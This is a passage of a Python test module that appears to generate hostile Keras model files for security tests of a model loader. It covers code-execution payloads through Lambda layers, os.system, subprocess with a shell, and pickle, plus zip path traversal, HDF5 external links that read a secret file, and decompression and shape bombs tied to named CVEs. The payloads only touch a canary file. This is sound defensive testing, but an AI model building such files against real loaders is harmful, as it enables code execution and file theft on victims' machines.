"""Hostile files, made anew by the tests: what somebody who is not trusted may hand over.

`NETWORKS` and `IMAGES` have a maker for each kind. A maker writes the file into a folder in one of
the `FORMS`: plain, nested (in an inner network or a group deep down), or renamed (under the suffix
of the other format, with harmless names inside). The folder's `canary` is what payloads would
write, its `secret` what links would read. What they do to somebody who trusts them is in proofs.py.

`USELESS_IMAGES` are image sets that are of no use rather than unsafe: status 2. Each has a maker
for either of two `VARIANTS`.
"""

import io
import json
import os
import shutil
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import h5py
import numpy as np
from conftest import SHAPE, random_images, tiny_network, write_images
from keras.src.utils import python_utils

FORMS = ("plain", "nested", "renamed")
VARIANTS = ("one", "other")
SECRET = b"the secret of another file, not meant for strangers"
BOMB = 1 << 40

Maker = Callable[[Path, str], Path]
NETWORKS: dict[str, Maker] = {}
IMAGES: dict[str, Maker] = {}
USELESS_IMAGES: dict[str, Maker] = {}


def canary(folder: Path) -> Path:
    return folder / "canary"


def secret(folder: Path) -> Path:
    path = folder / "secret"
    path.write_bytes(SECRET)
    return path


def named(folder: Path, suffix: str, form: str) -> Path:
    other = {".h5": ".keras", ".keras": ".h5"}[suffix]
    return folder / f"bd_net{other if form == 'renamed' else suffix}"


def base(suffix: str) -> bytes:
    """A harmless network's file, which older releases of Keras 3 read as well."""
    return _BASES[suffix]


_BASES: dict[str, bytes] = {}


def make_bases(folder: Path) -> None:
    for suffix in (".h5", ".keras"):
        tiny_network().save(folder / f"base{suffix}")
        _BASES[suffix] = (folder / f"base{suffix}").read_bytes()
    for suffix in (".h5", ".keras"):
        plain = edit_text(folder, "plain", suffix, lambda text: json.dumps(older(json.loads(text))))
        _BASES[suffix] = plain.read_bytes()


def older(found: object) -> object:
    """A configuration without what Keras 3.10 does not know yet."""
    if isinstance(found, list):
        return [older(item) for item in found]
    if not isinstance(found, dict):
        return found
    newer = ("quantization_config", "input_axes", "output_axes")
    return {key: older(value) for key, value in found.items() if key not in newer}


# ---------------------------------------------------------------- editing files


def edit_h5(folder: Path, form: str, edit: Callable[[h5py.File], None]) -> Path:
    path = named(folder, ".h5", form)
    path.write_bytes(base(".h5"))
    with h5py.File(path, "r+") as file:
        edit(file)
    return path


def edit_keras(folder: Path, form: str, edit: Callable[[dict[str, bytes]], None]) -> Path:
    path = named(folder, ".keras", form)
    with zipfile.ZipFile(io.BytesIO(base(".keras"))) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    edit(entries)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return path


def edit_text(folder: Path, form: str, suffix: str, edit: Callable[[str], str]) -> Path:
    """Edit the configuration as text."""
    if suffix == ".keras":

        def in_zip(entries: dict[str, bytes]) -> None:
            entries["config.json"] = edit(entries["config.json"].decode()).encode()

        return edit_keras(folder, form, in_zip)

    def in_h5(file: h5py.File) -> None:
        file.attrs["model_config"] = edit(file.attrs["model_config"])

    return edit_h5(folder, form, in_h5)


def edit_layers(folder: Path, form: str, suffix: str, edit: Callable[[list], None]) -> Path:
    """Edit the list of layers; nested, they first move into an inner network."""

    def edited(text: str) -> str:
        config = json.loads(text)
        layers = config["config"]["layers"]
        if form == "nested":
            inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": layers[1:]}}
            if suffix == ".keras":
                inner |= {"module": "keras", "registered_name": None}
            layers[1:] = [inner]
            layers = inner["config"]["layers"]
        edit(layers)
        return json.dumps(config)

    return edit_text(folder, form, suffix, edited)


def layer(folder: Path, form: str, suffix: str, payload: dict) -> Path:
    """Put a layer in after the others; a .keras payload has its module already."""
    payload.setdefault("config", {}).setdefault("name", "dropout" if form == "renamed" else "it")
    return edit_layers(folder, form, suffix, lambda layers: layers.insert(1, payload))


def graph(folder: Path, form: str, *layers: dict) -> Path:
    """A .keras of a functional network with these layers too; nested, it is inside another one."""
    image = {"batch_shape": [None, *SHAPE], "name": "image"}
    tensor = {"shape": [None, *SHAPE], "dtype": "float32", "keras_history": ["image", 0, 0]}
    node = {"args": [{"class_name": "__keras_tensor__", "config": tensor}], "kwargs": {}}
    whole = [
        keras_object("keras.layers", "InputLayer", image) | {"name": "image", "inbound_nodes": []},
        keras_object("keras.layers", "Flatten", {}) | {"name": "flat", "inbound_nodes": [node]},
        *layers,
    ]
    config = {"name": "graph", "layers": whole, "input_layers": [["image", 0, 0]]}
    config["output_layers"] = [["flat", 0, 0]]
    payload = keras_object("keras.src.models.functional", "Functional", config)
    payload["registered_name"] = "Functional"
    if form == "nested":
        return layer(folder, form, ".keras", payload)
    return edit_text(folder, form, ".keras", lambda _: json.dumps(payload))


def keras_object(module: str, class_name: str, config: dict) -> dict:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def call(payload: dict, form: str, index: int, **keywords: object) -> dict:
    """Have a layer or operation of a `graph` called while Keras builds it, with these alone."""
    name = f"dropout_{index}" if form == "renamed" else f"it_{index}"
    payload["config"]["name"] = name
    node = {"args": [], "kwargs": keywords}
    return payload | {"name": name, "inbound_nodes": [node]}


def setting(folder: Path, form: str, suffix: str, class_name: str, **settings: object) -> Path:
    """Change settings of the first layer of a class."""

    def edit(layers: list) -> None:
        found = next(one for one in layers if one["class_name"] == class_name)
        found["config"] |= settings

    return edit_layers(folder, form, suffix, edit)


def network(kind: str) -> Callable[[Maker], Maker]:
    return lambda maker: NETWORKS.setdefault(kind, maker)


# ---------------------------------------------------------------- code


def payload_code(folder: Path, arguments: str = "x") -> list:
    """A Python function, as Keras stores a lambda's code, that writes the canary."""
    answer = arguments or None
    source = f"lambda {arguments}: (open({str(canary(folder))!r}, 'w').close(), {answer})[1]"
    return list(python_utils.func_dump(eval(source)))


def lambda_function(folder: Path) -> dict:
    """The same as .keras files hold it."""
    code, defaults, closure = payload_code(folder)
    value = {"code": code, "defaults": defaults, "closure": closure}
    return {"class_name": "__lambda__", "config": value}


@network("Lambda in .h5 (CVE-2025-9905)")
def lambda_h5(folder: Path, form: str) -> Path:
    config = {"function": payload_code(folder), "function_type": "lambda", "arguments": {}}
    return layer(folder, form, ".h5", {"class_name": "Lambda", "config": config})


@network("Lambda in .keras")
def lambda_keras(folder: Path, form: str) -> Path:
    config = {"function": lambda_function(folder), "arguments": {}}
    return layer(folder, form, ".keras", keras_object("keras.layers", "Lambda", config))


def function(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def called(function: dict, form: str, value: object, **arguments: object) -> dict:
    """A Lambda layer that calls a function, found by its name, with a value and arguments."""
    config = {"function": function, "arguments": arguments}
    payload = keras_object("keras.layers", "Lambda", config)
    payload["build_config"] = {"input_shape": [None, *SHAPE]}
    return call(payload, form, 0, inputs=value)


def condition(form: str, index: int, function: dict) -> dict:
    """An operation of Keras that calls a function without arguments."""
    payload = keras_object("keras.src.ops.core", "Cond", {}) | {"registered_name": "Cond"}
    return call(payload, form, index, pred=True, true_fn=function, false_fn=function)


def keyword_code(folder: Path) -> dict:
    return {"class_name": "__lambda__", "config": {"value": payload_code(folder, "")}}


@network("function of a module (CVE-2025-1550)")
def module_function(folder: Path, form: str) -> Path:
    command = f"touch '{canary(folder)}'"
    return graph(folder, form, called(function("os", "system"), form, command))


@network("function of a module as an activation")
def module_activation(folder: Path, form: str) -> Path:
    return setting(folder, form, ".keras", "Conv2D", activation=function("os", "system"))


@network("class of a module (CVE-2025-1550)")
def module_class(folder: Path, form: str) -> Path:
    """The module lies beside the file, and is run when it is imported."""
    (folder / "payload.py").write_text(f"open({str(canary(folder))!r}, 'w').close()")
    return layer(folder, form, ".keras", keras_object("payload", "Layer", {}))


@network("class of a module as the network (CVE-2025-1550)")
def module_network(folder: Path, form: str) -> Path:
    path = module_class(folder, form)
    if form == "nested":
        return path
    named = json.dumps(keras_object("payload", "Layer", {}))
    return edit_text(folder, form, ".keras", lambda _: named)


@network("class with a command")
def module_command(folder: Path, form: str) -> Path:
    command = {"args": f"touch '{canary(folder)}'", "shell": True}
    return layer(folder, form, ".keras", keras_object("subprocess", "Popen", command))


@network("function of Keras that fetches a file (CVE-2025-8747)")
def get_file(folder: Path, form: str) -> Path:
    where = {"origin": secret(folder).as_uri(), "cache_dir": str(folder), "cache_subdir": "."}
    fetch = function("keras.utils", "get_file")
    return graph(folder, form, called(fetch, form, canary(folder).name, **where))


@network("safe mode switched off from within (CVE-2025-9906)")
def unsafe_mode(folder: Path, form: str) -> Path:
    """First the switch is called, then code is run that safe mode would have refused."""
    switch = function("keras.config", "enable_unsafe_deserialization")
    code = keyword_code(folder)
    return graph(folder, form, condition(form, 0, switch), condition(form, 1, code))


@network("code in an operation's keywords")
def operation_keywords(folder: Path, form: str) -> Path:
    """The second half of the one before."""
    return graph(folder, form, condition(form, 1, keyword_code(folder)))


@network("function as a layer")
def function_layer(folder: Path, form: str) -> Path:
    def edit(layers: list) -> None:
        layers.insert(1, function("keras.config", "enable_unsafe_deserialization"))

    return edit_layers(folder, form, ".keras", edit)


@network("layer named as a path")
def climbing(folder: Path, form: str) -> Path:
    return setting(folder, form, ".keras", "Dense", name="..\\..\\canary")


def saved_model(folder: Path) -> Path:
    """A SavedModel that writes the canary when it is called."""
    import tensorflow as tf

    class Payload(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec((None, *SHAPE))])
        def serve(self, x):
            tf.io.write_file(str(canary(folder)), "called")
            return x

    tf.saved_model.save(Payload(), folder / "saved")
    return folder / "saved"


@network("TFSMLayer (CVE-2026-1462)")
def tfsm_layer(folder: Path, form: str) -> Path:
    config = {"filepath": str(folder / "saved"), "call_endpoint": "serve"}
    return layer(folder, form, ".keras", keras_object("keras.layers", "TFSMLayer", config))


@network("TFSMLayer in .h5")
def tfsm_layer_h5(folder: Path, form: str) -> Path:
    config = {"filepath": str(folder / "saved"), "call_endpoint": "serve"}
    return layer(folder, form, ".h5", {"class_name": "TFSMLayer", "config": config})


@network("vocabulary from a file (CVE-2025-12058)")
def vocabulary(folder: Path, form: str) -> Path:
    config = {"vocabulary": str(secret(folder)), "output_mode": "int"}
    return layer(folder, form, ".keras", keras_object("keras.layers", "StringLookup", config))


@network("Lambda inside a wrapper")
def wrapped(folder: Path, form: str) -> Path:
    config = {"name": "inner", "function": lambda_function(folder), "arguments": {}}
    inner = keras_object("keras.layers", "Lambda", config)
    return layer(folder, form, ".h5", {"class_name": "TimeDistributed", "config": {"layer": inner}})


@network("Lambda inside SpectralNormalization")
def normalized(folder: Path, form: str) -> Path:
    config = {"name": "inner", "function": lambda_function(folder), "arguments": {}}
    inner = keras_object("keras.layers", "Lambda", config)
    payload = {"class_name": "SpectralNormalization", "config": {"layer": inner}}
    return layer(folder, form, ".h5", payload)


@network("code for the places of a slice")
def slice_of_code(folder: Path, form: str) -> Path:
    bounds = dict.fromkeys(("start", "stop", "step"))
    bounds["stop"] = {"class_name": "__lambda__", "config": {"value": payload_code(folder)}}
    payload = keras_object("keras.src.ops.numpy", "GetItem", {})
    taken = called_with(payload, form, [{"class_name": "__slice__", "config": bounds}])
    return graph(folder, form, taken)


def called_with(payload: dict, form: str, places: list) -> dict:
    """An operation of a `graph`, told places beside its tensor."""
    tensor = {"shape": [None, *SHAPE], "dtype": "float32", "keras_history": ["image", 0, 0]}
    made = call(payload, form, 0)
    node = {"args": [{"class_name": "__keras_tensor__", "config": tensor}, places], "kwargs": {}}
    return made | {"registered_name": payload["class_name"], "inbound_nodes": [node]}


@network("operation by name")
def operation(folder: Path, form: str) -> Path:
    """It is called with constants while Keras 2 builds the network."""
    name = "dropout" if form == "renamed" else "tf.io.write_file"
    config = {"name": name, "trainable": True, "dtype": "float32", "function": "io.write_file"}
    constants = ["_CONSTANT_VALUE", -1, str(canary(folder)), {"contents": "called"}]
    payload = {"class_name": "TFOpLambda", "config": config, "name": name}
    return graph_h5(folder, form, payload | {"inbound_nodes": [constants]})


@network("Keras operation")
def keras_operation(folder: Path, form: str) -> Path:
    payload = {"module": "keras.src.ops.numpy", "class_name": "Einsum", "registered_name": "Einsum"}
    return layer(folder, form, ".keras", payload)


@network("custom class")
def custom(folder: Path, form: str) -> Path:
    return layer(folder, form, ".h5", {"class_name": "Custom>Conv2D"})


@network("class by its path")
def dotted(folder: Path, form: str) -> Path:
    return layer(folder, form, ".h5", {"class_name": "keras.layers.Lambda"})


@network("class in other letters")
def case(folder: Path, form: str) -> Path:
    return layer(folder, form, ".h5", {"class_name": "lambda"})


def dense(**fields: object) -> dict:
    plain = {"module": "keras.layers", "class_name": "Dense", "registered_name": None}
    return plain | {"config": {"units": 3}} | fields


@network("no module")
def null_module(folder: Path, form: str) -> Path:
    return layer(folder, form, ".keras", dense(module=None))


@network("another module of Keras")
def other_module(folder: Path, form: str) -> Path:
    return layer(folder, form, ".keras", dense(module="keras.src.saving.saving_lib"))


@network("registered name")
def registered(folder: Path, form: str) -> Path:
    return layer(folder, form, ".keras", dense(registered_name="Custom>Dense"))


@network("unknown field of a layer")
def field(folder: Path, form: str) -> Path:
    def edit(layers: list) -> None:
        layers[-1]["on_load"] = function("os", "system")

    return edit_layers(folder, form, ".keras", edit)


@network("unknown setting")
def unknown_setting(folder: Path, form: str) -> Path:
    return setting(folder, form, ".h5", "Conv2D", loader="os.system")


@network("activation by its path")
def activation(folder: Path, form: str) -> Path:
    return setting(folder, form, ".h5", "Conv2D", activation="keras.src.utils.get_file")


@network("initializer of a module")
def initializer(folder: Path, form: str) -> Path:
    payload = {"module": "os", "class_name": "system", "config": {"command": "true"}}
    return setting(folder, form, ".keras", "Conv2D", kernel_initializer=payload)


@network("regularizer with a tensor's code")
def regularizer(folder: Path, form: str) -> Path:
    value = {"class_name": "__lambda__", "config": {"value": payload_code(folder)}}
    payload = {"module": "keras.regularizers", "class_name": "L2", "config": {"l2": value}}
    return setting(folder, form, ".keras", "Dense", kernel_regularizer=payload)


@network("dtype policy that quantizes")
def policy(folder: Path, form: str) -> Path:
    return setting(folder, form, ".keras", "Dense", dtype="int8_from_float32")


@network("type specification in JSON")
def type_spec(folder: Path, form: str) -> Path:
    spec = {"class_name": "TypeSpec", "type_spec": "tf.TensorSpec", "serialized": []}
    return setting(folder, form, ".h5", "InputLayer" if form != "nested" else "Conv2D", name=spec)


def graph_h5(folder: Path, form: str, *layers: dict, last: str = "") -> Path:
    """An .h5 of a functional network with these layers; nested, it is inside another one."""
    image = {"batch_input_shape": [None, *SHAPE], "name": "image"}
    whole = [
        {"class_name": "InputLayer", "config": image, "name": "image", "inbound_nodes": []},
        *layers,
    ]
    ends = {"input_layers": [["image", 0, 0]], "output_layers": [[last or "image", 0, 0]]}
    payload = {"class_name": "Functional", "config": {"name": "f", "layers": whole} | ends}
    if form == "nested":
        return layer(folder, form, ".h5", payload)
    return edit_text(folder, form, ".h5", lambda _: json.dumps(payload))


@network("code in a call's keywords")
def keywords(folder: Path, form: str) -> Path:
    lambda_ = {"class_name": "__lambda__", "config": {"value": payload_code(folder)}}
    node = [["image", 0, 0, {"training": lambda_}]]
    flat = {"class_name": "Flatten", "config": {}, "name": "flat", "inbound_nodes": [node]}
    return graph_h5(folder, form, flat, last="flat")


# ---------------------------------------------------------------- JSON


@network("one key twice")
def twice(folder: Path, form: str) -> Path:
    def edit(text: str) -> str:
        return text.replace(
            '"class_name": "Dense"', '"class_name": "Lambda", "class_name": "Dense"'
        )

    return edit_text(folder, form, ".keras" if form == "nested" else ".h5", edit)


@network("NaN as a number")
def nan(folder: Path, form: str) -> Path:
    return setting(folder, form, ".h5", "Rescaling", scale=float("nan"))


@network("endless nesting")
def endless(folder: Path, form: str) -> Path:
    deep = "[" * 100_000 + "]" * 100_000
    suffix = ".keras" if form == "nested" else ".h5"
    return edit_text(folder, form, suffix, lambda text: f'{{"class_name": {deep}}}')


@network("networks in networks")
def matryoshka(folder: Path, form: str) -> Path:
    payload = {"class_name": "Flatten", "config": {}}
    for index in range(20):
        inside = {"name": f"n{index}", "layers": [payload]}
        payload = {"class_name": "Sequential", "config": inside}
    return layer(folder, form, ".h5", payload)


# ---------------------------------------------------------------- sizes


@network("array declared huge (CVE-2026-0897)")
def shape_bomb(folder: Path, form: str) -> Path:
    def edit(entries: dict[str, bytes]) -> None:
        content = io.BytesIO(entries["model.weights.h5"])
        with h5py.File(content, "r+") as file:
            where = "layers/dense/vars" if form != "nested" else "layers/dense/a/b/vars"
            group = file.require_group(where)
            group.pop("0", None)
            group.create_dataset("0", (BOMB,), "f4", chunks=(1 << 20,), compression="gzip")
        entries["model.weights.h5"] = content.getvalue()

    return edit_keras(folder, form, edit)


@network("array declared huge in .h5")
def shape_bomb_h5(folder: Path, form: str) -> Path:
    def edit(file: h5py.File) -> None:
        where = "model_weights/deep/down" if form == "nested" else "bomb"
        file.create_dataset(where, (BOMB,), "f4")

    return edit_h5(folder, form, edit)


def bombs(name: str, class_name: str, **settings: object) -> None:
    @network(name)
    def bomb(folder: Path, form: str) -> Path:
        return layer(folder, form, ".h5", {"class_name": class_name, "config": dict(settings)})


bombs("upsampling bomb", "UpSampling2D", size=[100_000, 100_000])
bombs("padding bomb", "ZeroPadding2D", padding=4000)
bombs("reshape bomb", "Reshape", target_shape=[1 << 40])
bombs("resizing bomb", "Resizing", height=60_000, width=60_000)
bombs("layer without arrays of its own", "Dense", units=1000)


@network("upsampling again and again")
def upsampled(folder: Path, form: str) -> Path:
    def edit(layers: list) -> None:
        for index in range(8):
            config = {"name": f"up_{index}", "size": [8, 8]}
            layers.insert(1, {"class_name": "UpSampling2D", "config": config})

    return edit_layers(folder, form, ".h5", edit)


@network("doubling a tensor again and again")
def doubled(folder: Path, form: str) -> Path:
    names = ["image", *(f"twice_{index}" for index in range(30))]
    layers = []
    for before, name in zip(names, names[1:], strict=False):
        node = [[before, 0, 0, {}], [before, 0, 0, {}]]
        layers.append(
            {"class_name": "Concatenate", "config": {}, "name": name, "inbound_nodes": [node]}
        )
    return graph_h5(folder, form, *layers, last=names[-1])


def disagrees(name: str, class_name: str, **settings: object) -> None:
    @network(name)
    def disagreeing(folder: Path, form: str) -> Path:
        return setting(folder, form, ".h5", class_name, **settings)


disagrees("more filters than the arrays have", "Conv2D", filters=1 << 19)
disagrees("more units than the arrays have", "Dense", units=1 << 19)
disagrees("a larger kernel than the arrays have", "Conv2D", kernel_size=[5, 5], padding="same")


@network("huge input")
def huge_input(folder: Path, form: str) -> Path:
    shape = [None, 1 << 19, 1 << 19, 3]
    if form != "nested":
        return setting(folder, form, ".h5", "InputLayer", batch_shape=shape)
    return setting(folder, form, ".h5", "Rescaling", batch_input_shape=[None, 1 << 30, 1 << 30, 3])


# ---------------------------------------------------------------- HDF5


def in_h5(kind: str, put: Callable[[h5py.Group, Path], None], images: bool = True) -> None:
    """A kind of network and of image set with something put into its tree."""

    @network(kind)
    def of_network(folder: Path, form: str) -> Path:
        where = "model_weights/deep/down" if form == "nested" else "/"
        return edit_h5(folder, form, lambda file: put(file.require_group(where), folder))

    def of_images(folder: Path, form: str) -> Path:
        path = folder / ("clean.keras" if form == "renamed" else "clean.h5")
        write_images(path, random_images(6), np.zeros(6))
        with h5py.File(path, "r+") as file:
            if form == "nested":
                put(file.create_group("deep/down"), folder)
            else:
                del file["label"]
                put(file, folder)
                file.move("it", "label")
        return path

    if images:
        IMAGES[kind] = of_images


def put_external_link(group: h5py.Group, folder: Path) -> None:
    with h5py.File(folder / "secret", "w") as file:
        file["words"] = np.frombuffer(SECRET, "u1")
    group["it"] = h5py.ExternalLink(str(folder / "secret"), "words")


def put_external_storage(group: h5py.Group, folder: Path) -> None:
    where = [(str(secret(folder)), 0, len(SECRET))]
    group.create_dataset("it", (len(SECRET),), "u1", external=where)


def put_virtual(group: h5py.Group, folder: Path) -> None:
    with h5py.File(folder / "secret", "w") as file:
        file["words"] = np.frombuffer(SECRET, "u1")
    layout = h5py.VirtualLayout((len(SECRET),), "u1")
    layout[:] = h5py.VirtualSource(str(folder / "secret"), "words", (len(SECRET),))
    group.create_virtual_dataset("it", layout)


def put_soft_link(group: h5py.Group, folder: Path) -> None:
    group["there"] = np.zeros(6)
    group["it"] = h5py.SoftLink(f"{group.name}/there")


def put_loop(group: h5py.Group, folder: Path) -> None:
    group["it"] = group


def put_twin(group: h5py.Group, folder: Path) -> None:
    group["there"] = np.zeros(6)
    group["it"] = group["there"]


def put_references(group: h5py.Group, folder: Path) -> None:
    group.create_dataset("it", data=[group.ref] * 6, dtype=h5py.ref_dtype)


def put_regions(group: h5py.Group, folder: Path) -> None:
    there = group.create_dataset("there", data=np.zeros(6))
    group.create_dataset("it", data=[there.regionref[:]] * 6, dtype=h5py.regionref_dtype)


def put_open_length(group: h5py.Group, folder: Path) -> None:
    group.create_dataset("it", (6,), dtype=h5py.vlen_dtype(np.int32))


def put_plugin(group: h5py.Group, folder: Path) -> None:
    plan = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plan.set_chunk((6,))
    plan.set_filter(32_015, h5py.h5z.FLAG_OPTIONAL, (3,))  # Zstandard, as a plugin
    space = h5py.h5s.create_simple((6,))
    array = h5py.h5d.create(group.id, b"it", h5py.h5t.IEEE_F32LE, space, plan)
    array.write_direct_chunk((0,), bytes(24))


def put_named_type(group: h5py.Group, folder: Path) -> None:
    group["it"] = np.dtype("f4")


in_h5("external link (CVE-2026-1669)", put_external_link)
in_h5("external storage (CVE-2026-1669)", put_external_storage)
in_h5("virtual dataset", put_virtual)
in_h5("soft link", put_soft_link)
in_h5("group that holds itself", put_loop)
in_h5("two names of one array", put_twin)
in_h5("object references", put_references)
in_h5("region references", put_regions)
in_h5("values of open length", put_open_length)
in_h5("filter from a plugin", put_plugin)
in_h5("named type", put_named_type)


def weights_elsewhere(kind: str, put: Callable[[h5py.Group, Path], None]) -> None:
    """A kind of .keras in which an array of the last layer comes from another file."""

    @network(kind)
    def of_network(folder: Path, form: str) -> Path:
        def edit(entries: dict[str, bytes]) -> None:
            content = io.BytesIO(entries["model.weights.h5"])
            with h5py.File(content, "r+") as file:
                group = file["layers/dense/vars"]
                del group["1"]
                put(group.create_group("deep/down") if form == "nested" else group, folder)
            entries["model.weights.h5"] = content.getvalue()

        return edit_keras(folder, form, edit)


def put_stored_weights(group: h5py.Group, folder: Path) -> None:
    group.create_dataset("1", (5,), "f4", external=[(str(secret(folder)), 0, 20)])


weights_elsewhere("external storage inside a zip (CVE-2026-1669)", put_stored_weights)


def weights_elsewhere_h5(kind: str, put: Callable[[h5py.Group, Path], None]) -> None:
    """A kind of .h5 in which an array of the last layer comes from another file."""

    @network(kind)
    def of_network(folder: Path, form: str) -> Path:
        def edit(file: h5py.File) -> None:
            (of_output,) = file["model_weights/output"].values()  # named as Keras counts networks
            group = of_output["output"]
            del group["bias"]
            if form == "nested":
                group = group.create_group("deep/down")
            put(group, folder)
            group.move("it", "bias")

        return edit_h5(folder, form, edit)


def put_linked_numbers(group: h5py.Group, folder: Path) -> None:
    with h5py.File(folder / "secret", "w") as file:
        file["words"] = np.frombuffer(SECRET[:20], "f4")
    group["it"] = h5py.ExternalLink(str(folder / "secret"), "words")


def put_stored_numbers(group: h5py.Group, folder: Path) -> None:
    group.create_dataset("it", (5,), "f4", external=[(str(secret(folder)), 0, 20)])


weights_elsewhere_h5("external link for weights in .h5 (CVE-2026-1669)", put_linked_numbers)
weights_elsewhere_h5("external storage for weights in .h5 (CVE-2026-1669)", put_stored_numbers)


FLOATS = bytes.fromhex("11201f00 04000000 0000 2000 17080017 7f000000")  # HDF5's float32


def begin_elsewhere(path: Path, array: str) -> None:
    """Have an array's numbers begin 0x6600 bits further on: HDF5 1.14 writes there."""
    with h5py.File(path) as file:
        header = h5py.h5o.get_info(file[array].id).addr
    content = bytearray(path.read_bytes())
    at = content.index(FLOATS, header)
    content[at + 8 : at + 10] = (0x6600).to_bytes(2, "little")
    path.write_bytes(content)


@network("numbers that begin outside of their bytes")
def far_bits(folder: Path, form: str) -> Path:
    array = "model_weights/deep/down/it" if form == "nested" else "it"
    path = edit_h5(folder, form, lambda file: file.create_dataset(array, data=np.ones(6, "f4")))
    begin_elsewhere(path, array)
    return path


@network("names in two forms")
def two_lists(folder: Path, form: str) -> Path:
    def edit(file: h5py.File) -> None:
        group = file["model_weights/conv_1" if form == "nested" else "model_weights"]
        key = "weight_names" if form == "nested" else "layer_names"
        group.attrs[f"{key}0"] = group.attrs[key]

    return edit_h5(folder, form, edit)


@network("hidden behind something else")
def user_block(folder: Path, form: str) -> Path:
    path = named(folder, ".h5", form)
    with h5py.File(path, "w", userblock_size=4096 if form == "nested" else 512) as file:
        file["it"] = 1
    with open(path, "r+b") as file:
        file.write(f"#!/bin/sh\ntouch '{canary(folder)}'\nexit\n".encode())
    return path


@network("HDF5 and zip at once")
def polyglot(folder: Path, form: str) -> Path:
    """A harmless network for who reads HDF5, a Lambda for who reads a zip."""
    whole = io.BytesIO(base(".h5"))
    inner = lambda_keras(folder, "nested" if form == "nested" else "plain")
    with zipfile.ZipFile(inner) as source, zipfile.ZipFile(whole, "a") as both:
        for name in source.namelist():
            both.writestr(name, source.read(name))
    inner.unlink()
    path = named(folder, ".h5", form)
    path.write_bytes(whole.getvalue())
    return path


# ---------------------------------------------------------------- zip


def in_zip(kind: str, put: Callable[[zipfile.ZipFile, str], None]) -> None:
    @network(kind)
    def of_network(folder: Path, form: str) -> Path:
        path = edit_keras(folder, form, lambda entries: None)
        with zipfile.ZipFile(path, "a") as archive:
            put(archive, form)
        return path


def put_traversal(archive: zipfile.ZipFile, form: str) -> None:
    archive.writestr("assets/../../canary" if form == "nested" else "../canary", "written")


def put_absolute(archive: zipfile.ZipFile, form: str) -> None:
    archive.writestr(f"/tmp/{form}/canary", "written")


def put_assets(archive: zipfile.ZipFile, form: str) -> None:
    archive.writestr("assets/layers/string_lookup/vocabulary.txt", "word")


def put_case(archive: zipfile.ZipFile, form: str) -> None:
    archive.writestr("Config.json", "{}")


in_zip("zip entry that climbs (GHSA-hqp4-2352-xf5r)", put_traversal)
in_zip("zip entry from the root", put_absolute)
in_zip("zip with assets", put_assets)
in_zip("zip entry in other letters", put_case)


@network("zip entry twice")
def again(folder: Path, form: str) -> Path:
    """One is harmless: the first, or the last, which Python's zipfile reads, in the nested form."""
    path = lambda_keras(folder, form)
    with zipfile.ZipFile(path) as archive:
        configs = [archive.read("config.json")]
    with zipfile.ZipFile(io.BytesIO(base(".keras"))) as archive:
        configs.insert(form == "nested", archive.read("config.json"))

    def edit(entries: dict[str, bytes]) -> None:
        entries["config.json"] = configs[0]

    edit_keras(folder, form, edit)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", configs[1])
    return path


class Payload:
    """What writes the canary when it is unpickled."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self) -> tuple:
        return open, (str(self.path), "w")


@network("zip with pickled weights")
def pickled(folder: Path, form: str) -> Path:
    def edit(entries: dict[str, bytes]) -> None:
        content = io.BytesIO()
        array = np.empty((), object)
        array[()] = Payload(canary(folder))
        where = "layers/dense" if form != "nested" else "layers/sequential/layers/dense"
        np.savez(content, **{where: array})
        entries["model.weights.npz"] = content.getvalue()
        del entries["model.weights.h5"]

    return edit_keras(folder, form, edit)


@network("zip bomb")
def zip_bomb(folder: Path, form: str) -> Path:
    path = named(folder, ".keras", form)
    big = "metadata.json" if form == "nested" else "config.json"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("metadata.json", "config.json", "model.weights.h5"):
            archive.writestr(name, b" " * (1 << 26 if name == big else 2))
    return path


@network("zip packed in another way")
def packed(folder: Path, form: str) -> Path:
    path = edit_keras(folder, form, lambda entries: None)
    shutil.copy(path, folder / "old")
    with zipfile.ZipFile(folder / "old") as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            way = zipfile.ZIP_LZMA if form != "nested" or "weights" in name else zipfile.ZIP_STORED
            new.writestr(name, old.read(name), way)
    (folder / "old").unlink()
    return path


# ---------------------------------------------------------------- image sets of no use


def useless(kind: str) -> Callable[[Callable[[Path, bool], None]], Maker]:
    """A kind of image set that a function writes, given the path and which of two variants."""

    def keep(write: Callable[[Path, bool], None]) -> Maker:
        def make(folder: Path, variant: str) -> Path:
            path = folder / "clean.h5"
            write(path, variant == "one")
            return path

        USELESS_IMAGES[kind] = make
        return make

    return keep


def zeros_in_chunks(
    path: Path, count: int, shape: tuple[int, int, int], chunk: tuple, dtype: str = "u1"
) -> Path:
    """A set of black images in gzip chunks, which all have the same bytes: quickly written."""
    with h5py.File(path, "w") as file:
        size = (count, shape[2], *shape[:2])
        data = file.create_dataset("data", size, dtype, chunks=chunk, compression="gzip")
        packed = zlib.compress(bytes(int(np.prod(chunk)) * data.dtype.itemsize), 9)
        for place in np.ndindex(*(-(-a // b) for a, b in zip(size, chunk, strict=True))):
            corner = tuple(at * step for at, step in zip(place, chunk, strict=True))
            data.id.write_direct_chunk(corner, packed)
        file.create_dataset("label", (count,), "u1", chunks=(count,), compression="gzip")
        file["label"][:] = 0
    return path


def put_chunk(path: Path, packed: bytes, left_out: int, **options: object) -> None:
    """Write a good set in two chunks, then bytes in place of the later one."""
    write_images(path, random_images(800), np.zeros(800), chunks=(400, 3, 14, 12), **options)
    with h5py.File(path, "r+") as file:
        file["data"].id.write_direct_chunk((400, 0, 0, 0), packed, left_out)


@useless("later chunk stored short")
def short_chunk(path: Path, one: bool) -> None:
    """No filter is said to be on it, and it has 300 bytes of 201,600; with one filter or two."""
    options = {"compression": "gzip"} if one else {"compression": "lzf", "shuffle": True}
    put_chunk(path, bytes(300), 1 if one else 3, **options)


@useless("later chunk that unpacks short")
def short_packed_chunk(path: Path, one: bool) -> None:
    """Its gzip is sound, and too short by all but a few bytes; or it is LZF."""
    if one:
